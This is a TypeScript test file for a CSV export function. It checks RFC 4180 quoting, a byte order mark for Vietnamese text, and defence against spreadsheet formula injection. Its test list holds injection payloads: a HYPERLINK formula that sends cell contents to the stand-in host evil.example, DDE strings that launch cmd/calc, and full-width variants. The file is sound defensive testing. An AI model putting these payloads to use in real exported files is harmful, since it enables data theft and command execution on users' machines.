import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { toCsv } from './csv.ts';

/** RFC 4180 read back, by the letter. */
function readCsv(file: string): string[][] {
  const lines: string[][] = [];
  let rest = file.slice(1);
  while (rest) {
    const line: string[] = [];
    for (let more = true; more;) {
      const [whole = '', quoted, plain = '', end = ''] = /^(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/.exec(rest) ?? [];
      if (!whole) throw new Error(`No CSV: ${rest}`);
      line.push(quoted === undefined ? plain : quoted.replaceAll('""', '"'));
      rest = rest.slice(whole.length);
      more = end === ',';
    }
    lines.push(line);
  }
  return lines;
}
const cellOf = (text: string) => readCsv(toCsv([[text, 'x']]))[0]?.[0];

describe('a list as CSV', () => {
  it('begins with a byte order mark, so that Excel reads Vietnamese, and ends each line with CR LF', () => {
    expect(toCsv([['Họ tên'], ['Nguyễn T. H.']])).toBe('\uFEFFHọ tên\r\nNguyễn T. H.\r\n');
  });

  it('quotes what holds commas, quotes and line ends', () => {
    expect(toCsv([['Quảng Xương, Thanh Hóa', 'said "no"', 'two\nlines', 'plain']])).toBe(
      '\uFEFF"Quảng Xương, Thanh Hóa","said ""no""","two\nlines",plain\r\n',
    );
  });

  it.each([
    '=HYPERLINK("http://evil.example/?"&A1,"Xem")',
    "=cmd|' /C calc'!A0",
    '+1+cmd|calc',
    '-2+3+cmd|calc',
    '@SUM(1+1)*cmd|calc',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    '＝1+1',
    '＋1',
    '－1',
    '＠SUM(A1)',
    '=1+1","=2+2',
  ])('keeps %j from being a formula', (attack) => {
    expect(cellOf(attack)).toBe(`'${attack}`);
  });

  it('leaves alone what only holds such signs inside', () => {
    for (const text of ['36B1-123.45', 'a=b', 'lan@thanhhoa', '23/08/2021 14:05', '', 'Ấp 3'])
      expect(cellOf(text)).toBe(text);
  });

  it('is read back as it was, whatever people typed, and no cell begins like a formula', () => {
    const unit = fc.constantFrom(...'=+-@＝＋－＠\t\r\n",\'; aế1');
    const line = fc.array(fc.string({ unit, maxLength: 6 }), { minLength: 2, maxLength: 3 });
    const anything = fc.array(line, { minLength: 1, maxLength: 3 });
    fc.assert(
      fc.property(anything, (lines) => {
        const cells = readCsv(toCsv(lines)).flat();
        expect(cells.map((cell) => cell.replace(/^'(?=[=+\-@\t\r\n＝＋－＠])/, ''))).toEqual(
          lines.flat().map((cell) => cell.replace(/^'(?=[=+\-@\t\r\n＝＋－＠])/, '')),
        );
        for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r\n＝＋－＠]/);
      }),
    );
  });
});
